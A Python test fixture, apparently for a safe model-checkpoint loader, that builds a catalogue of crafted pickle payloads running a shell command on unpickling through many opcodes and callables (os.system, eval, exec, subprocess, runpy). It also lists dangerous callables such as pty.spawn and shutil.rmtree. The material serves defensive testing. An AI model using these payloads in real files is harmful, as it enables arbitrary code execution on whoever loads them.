"""Pickles that execute a command where Python's own `pickle` reads them, by every way there is.

`LIVE` does execute it with nothing but the standard library: the tests prove it, so that what is refused here is no
straw man. `CALLS` would, with a package or a platform that need not be there, or has the form but not the force.
"""

import os
from collections.abc import Callable
from pathlib import Path

from tests.checkpoint.torch_bytes import call, name, program, several, table, text

Program = Callable[[str], bytes]

SYSTEM = name("os.system")
OS = call("importlib.import_module", text("os"))


class Hostile:
    """Leaves a mark where Python's own `pickle` reads it."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self.mark}",)


def quoted(command: str) -> bytes:
    """A text of protocol 0."""
    return b"S" + repr(command).encode() + b"\n"


def python(command: str) -> bytes:
    """An expression that runs the command."""
    return text(f"__import__('os').system({command!r})")


def runs(command: str) -> bytes:
    """The smallest pickle that runs the command."""
    return program(call(SYSTEM, text(command)))


LIVE: dict[str, Program] = {
    "GLOBAL and REDUCE": runs,
    "the text opcodes": lambda c: b"cposix\nsystem\n(" + quoted(c) + b"tR.",
    "STACK_GLOBAL": lambda c: b"\x80\x04\x8c\2os\x8c\6system\x93" + text(c) + b"\x85R.",
    "STACK_GLOBAL of a path": lambda c: b"\x80\x04\x8c\7tarfile\x8c\x09os.system\x93" + text(c) + b"\x85R.",
    "INST": lambda c: program(b"(" + text(c) + b"ios\nsystem\n"),
    "OBJ": lambda c: program(b"(" + SYSTEM + text(c) + b"o"),
    "BUILD of __setstate__": lambda c: program(
        name("argparse.Namespace") + b")\x81}" + text("__setstate__") + SYSTEM + b"sb" + text(c) + b"b"
    ),
    "the memo": lambda c: program(SYSTEM + b"q\7" + text(c) + b"\x85q\x08" + b"00}" + text("a") + b"h\7h\x08Rs"),
    "a value of a table": lambda c: table(("state_dict", b"}" + text("a") + b"](" + call(SYSTEM, text(c)) + b"es")),
    "a value that is dropped": lambda c: program(call(SYSTEM, text(c)) + b"0}"),
    "getattr": lambda c: program(call(call("builtins.getattr", OS, text("system")), text(c))),
    "__import__": lambda c: program(
        call(call("builtins.getattr", call("builtins.__import__", text("os")), text("system")), text(c))
    ),
    "eval": lambda c: program(call("builtins.eval", python(c))),
    "eval of Python 2": lambda c: program(call("__builtin__.eval", python(c))),
    "exec": lambda c: program(call("builtins.exec", python(c))),
    "partial": lambda c: program(call(call("functools.partial", SYSTEM, text(c)))),
    "map": lambda c: program(call("builtins.list", call("builtins.map", SYSTEM, b"(" + text(c) + b"l"))),
    "methodcaller": lambda c: program(call(call("operator.methodcaller", text("system"), text(c)), OS)),
    "attrgetter": lambda c: program(call(call(call("operator.attrgetter", text("system")), OS), text(c))),
    "subprocess": lambda c: program(call("subprocess.getoutput", text(c))),
    "copyreg": lambda c: program(
        call("copyreg.__newobj__", name("subprocess.Popen")) + b"0" + call("subprocess.getoutput", text(c))
    ),
    "runpy": lambda c: program(call("runpy._run_code", python(c), b"}")),
    "timeit": lambda c: program(call("timeit.timeit", python(c), text("pass"), name("time.perf_counter"), b"K\1")),
    "cProfile": lambda c: program(call("cProfile.runctx", python(c), b"}", b"}", text("/dev/null"))),
    "pydoc": lambda c: program(call("pydoc.pipepager", text(""), text(c))),
    "a pickle in a pickle": lambda c: program(
        call("_pickle.loads", call("_codecs.encode", text(runs(c).decode("latin-1")), text("latin1")))
    ),
}

FUNCTIONS = (
    "subprocess.Popen", "subprocess.check_output", "torch.load", "torch.serialization.load",
    "torch.hub.load_state_dict_from_url", "torch.jit.load", "torch.utils.cpp_extension.load_inline", "numpy.load",
    "numpy.f2py.diagnose.run_command", "pandas.read_pickle", "types.CodeType", "types.FunctionType", "marshal.loads",
    "ctypes.CDLL", "socket.create_connection", "shutil.rmtree", "webbrowser.open", "pty.spawn", "builtins.open",
    "builtins.compile", "builtins.setattr", "_io.FileIO", "io.open", "nt.system", "sys.settrace", "pip.main",
    "urllib.request.urlopen", "code.interact", "pdb.run", "importlib.import_module", "operator.attrgetter",
)  # fmt: skip

CALLS: dict[str, Program] = {
    **{f"NEWOBJ {f}": lambda c, f=f: program(name(f) + text(c) + b"\x85\x81") for f in FUNCTIONS},  # type: ignore[misc]
    **{f"REDUCE {f}": lambda c, f=f: program(call(f, text(c))) for f in FUNCTIONS},  # type: ignore[misc]
    "a path of torch": lambda c: program(b"ctorch.serialization\nos.system\n" + several(text(c)) + b"R"),
    "NEWOBJ_EX": lambda c: b"\x80\x04" + name("subprocess.Popen") + b")}" + text("args") + text(c) + b"s\x92.",
    "BUILD of a name": lambda c: program(SYSTEM + text(c) + b"b"),
    "BUILD with a name": lambda c: program(call("a.b") + b"}" + text("x") + SYSTEM + b"sb"),
    "a name among the arguments": lambda c: program(call("a.b", b"](" + SYSTEM + text(c) + b"e")),
    "a name in an argument's state": lambda c: program(call("a.b", call("a.c") + b"}" + text("x") + SYSTEM + b"sb")),
}
